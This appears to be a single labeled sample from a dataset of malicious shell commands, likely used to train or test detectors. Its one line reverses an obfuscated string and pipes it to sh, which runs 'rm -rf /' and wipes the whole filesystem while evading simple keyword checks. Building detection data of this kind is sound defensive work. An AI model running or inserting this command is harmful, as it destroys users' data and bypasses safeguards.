# label: malicious; obfuscated: reverse
echo "/ fr- mr" | rev | sh
